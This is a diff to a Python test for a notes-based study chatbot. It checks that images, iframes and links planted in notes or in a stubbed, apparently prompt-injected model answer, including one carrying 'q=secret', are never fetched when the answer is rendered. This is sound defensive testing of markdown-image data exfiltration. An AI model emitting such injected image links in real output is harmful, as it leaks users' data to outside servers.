@@ -50,20 +50,23 @@ class Recorder:
 
 def test_no_image_link_or_iframe_from_notes_or_model_text_is_loaded(tmp_path):
     rec = Recorder()
-    leaks = (
-        f"![x]({rec.base}/img?q=secret) <img src='{rec.base}/raw'> "
-        f"<iframe src='{rec.base}/frame'></iframe> [docs]({rec.base}/link) "
-        f"![ref][r]\n\n[r]: {rec.base}/refimg"
-    )
+
+    def leaks(prefix: str) -> str:
+        base = f"{rec.base}/{prefix}"
+        return (f"![x]({base}img?q=secret) <img src='{base}raw'> "
+                f"<iframe src='{base}frame'></iframe> [docs]({base}link) "
+                f"![ref][r]\n\n[r]: {base}refimg")  # fmt: skip
+
     notes = tmp_path / "notes"
     notes.mkdir()
     (notes / "rope.md").write_text(
         "## What is RoPE?\nRotary position embeddings rotate query and key vectors by position. "
-        + leaks
-        + "\n"
+        f"{leaks('')}\n\n## What does the model echo?\n{leaks('model-')} Endofmodel\n"
     )
-    # A prompt-injected model answer tries the same, through the streamed text.
-    stub = OpenAIStub(f"RoPE rotates query and key vectors by position [1]. {leaks} Endofmodel")
+    # A prompt-injected model answer tries the same through the streamed text; the links are in
+    # the notes, so its sentences pass the claim check and reach the page.
+    stub = OpenAIStub(f"RoPE rotates query and key vectors by position [1]. {leaks('model-')} "
+                      "Endofmodel [2]")  # fmt: skip
     env = {**os.environ, "STUDYBOT_HOME": str(tmp_path / "home"), "STUDYBOT_LLM_URL": stub.url,
            "STUDYBOT_LLM_MODEL": "stub"}  # fmt: skip
     env.pop("STUDYBOT_CHROMA_URL", None)
@@ -96,7 +99,7 @@ def test_no_image_link_or_iframe_from_notes_or_model_text_is_loaded(tmp_path):
         stub.close()
         rec.close()
     assert stub.requests, "the model was asked: its text reached the page"
-    assert "rotate" in shown
+    assert "RoPE rotates query" in shown  # the model's own sentence, checked and shown
     assert [u for u in requested if u.startswith(rec.base)] == [] and rec.paths == []
 
 
